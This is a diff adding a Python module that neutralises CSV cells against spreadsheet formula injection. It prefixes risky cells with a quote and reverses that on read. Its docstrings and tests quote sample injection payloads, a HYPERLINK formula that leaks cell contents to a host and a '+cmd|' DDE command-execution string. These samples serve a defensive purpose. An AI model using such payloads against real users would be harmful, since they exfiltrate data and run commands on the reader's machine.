@@ -1,0 +1,135 @@
+"""CSV cells a spreadsheet will not execute: the one rule for every CSV evalstats writes.
+
+A spreadsheet opening a CSV evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@``
+(and, in some, a tab or carriage return) as a formula: agent text such as
+``=HYPERLINK("http://x/?"&A1, "see")`` or ``+cmd|' /C calc'!A0`` runs on the reader's
+machine. :func:`neutralise_cell` prefixes such a cell with ``'`` (shown as text, the OWASP
+rule); a cell that already starts with ``'`` gets one more, so :func:`restore_cell` undoes it
+exactly. Plain numbers (``-0.25``, ``+3e-4``) are left alone: no spreadsheet runs them.
+
+Every writer of a CSV a person may open calls :func:`safe_frame` (or :func:`safe_csv`) on
+the frame it writes; a reader of a CSV evalstats wrote calls :func:`restore_frame`.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+from typing import Any
+
+import numpy as np
+import pandas as pd
+
+__all__ = [
+    "FORMULA_STARTS",
+    "neutralise_cell",
+    "restore_cell",
+    "restore_frame",
+    "safe_csv",
+    "safe_frame",
+]
+
+#: First characters that make a spreadsheet read a cell as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_QUOTE = "'"
+_NUMBER = r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?"
+_NUMBER_RE = re.compile(_NUMBER)
+_RISKY = "^[" + re.escape("".join((*FORMULA_STARTS, _QUOTE))) + "]"
+
+
+def neutralise_cell(value: Any) -> Any:
+    """``value`` made inert for a spreadsheet (non-strings unchanged).
+
+    >>> neutralise_cell('=HYPERLINK("http://x", "y")')
+    '\\'=HYPERLINK("http://x", "y")'
+    >>> neutralise_cell("@SUM(A1)"), neutralise_cell("-0.25"), neutralise_cell("fine")
+    ("'@SUM(A1)", '-0.25', 'fine')
+    >>> restore_cell(neutralise_cell("'=1")) == "'=1"
+    True
+    """
+    if not isinstance(value, str) or not value:
+        return value
+    if value[0] in FORMULA_STARTS or value[0] == _QUOTE:
+        if _NUMBER_RE.fullmatch(value):
+            return value
+        return _QUOTE + value
+    return value
+
+
+def restore_cell(value: Any) -> Any:
+    """The value :func:`neutralise_cell` was given (for cells evalstats wrote).
+
+    >>> restore_cell("'+cmd|' /C calc'!A0"), restore_cell("'plain"), restore_cell(3)
+    ("+cmd|' /C calc'!A0", "'plain", 3)
+    """
+    if isinstance(value, str) and len(value) > 1 and value[0] == _QUOTE:
+        if value[1] in FORMULA_STARTS or value[1] == _QUOTE:
+            return value[1:]
+    return value
+
+
+def _text_columns(frame: pd.DataFrame) -> list[Any]:
+    return [c for c in frame.columns if not pd.api.types.is_numeric_dtype(frame[c].dtype)]
+
+
+def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``frame`` whose text cells and column names are neutralised.
+
+    Numeric columns are untouched (a number is never a formula); in text columns only
+    string cells change, vectorised.
+
+    >>> df = pd.DataFrame({"answer": ["=1+1", "ok", "-2"], "x": [-1.0, 2.0, 3.0]})
+    >>> safe_frame(df)["answer"].tolist(), safe_frame(df)["x"].tolist()
+    (["'=1+1", 'ok', '-2'], [-1.0, 2.0, 3.0])
+    """
+    out = frame.copy()
+    for column in _text_columns(out):
+        series = out[column]
+        is_str = series.map(type).eq(str).to_numpy()
+        if not is_str.any():
+            continue
+        text = series.where(is_str, "").astype(str)
+        risky = text.str.contains(_RISKY, regex=True) & ~text.str.fullmatch(_NUMBER)
+        flag = risky.to_numpy(dtype=bool) & is_str
+        if flag.any():
+            values = series.to_numpy(dtype=object, copy=True)
+            values[flag] = np.char.add(_QUOTE, text.to_numpy(dtype=str)[flag]).astype(object)
+            out[column] = pd.Series(values, index=series.index, dtype=object)
+    out.columns = [neutralise_cell(c) for c in out.columns]
+    return out
+
+
+def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """Undo :func:`safe_frame` on a frame read back with ``dtype=str``."""
+    out = frame.copy()
+    for column in _text_columns(out):
+        out[column] = out[column].map(restore_cell)
+    out.columns = [restore_cell(c) for c in out.columns]
+    return out
+
+
+def safe_csv(
+    frame: pd.DataFrame, path: str | os.PathLike[str] | None = None, **to_csv: Any
+) -> str | None:
+    """``frame.to_csv`` with every text cell neutralised (:func:`safe_frame`).
+
+    Parameters
+    ----------
+    frame : DataFrame
+    path : path-like, optional
+        Where to write; None returns the CSV text.
+    **to_csv
+        Passed to :meth:`pandas.DataFrame.to_csv` (e.g. ``index=False``).
+
+    Lines end in CRLF (RFC 4180) unless ``lineterminator`` is given: with it the writer
+    quotes every cell holding a carriage return, which it leaves bare under a newline
+    terminator -- and a bare CR starts a new row in a spreadsheet, a second way in.
+
+    Examples
+    --------
+    >>> text = safe_csv(pd.DataFrame({"a": ["@SUM(A1)", "x" + chr(13) + "=1"]}), index=False)
+    >>> text.splitlines(keepends=False)[1], text.count(chr(34))
+    ("'@SUM(A1)", 2)
+    """
+    to_csv.setdefault("lineterminator", "\r\n")
+    return safe_frame(frame).to_csv(path, **to_csv)
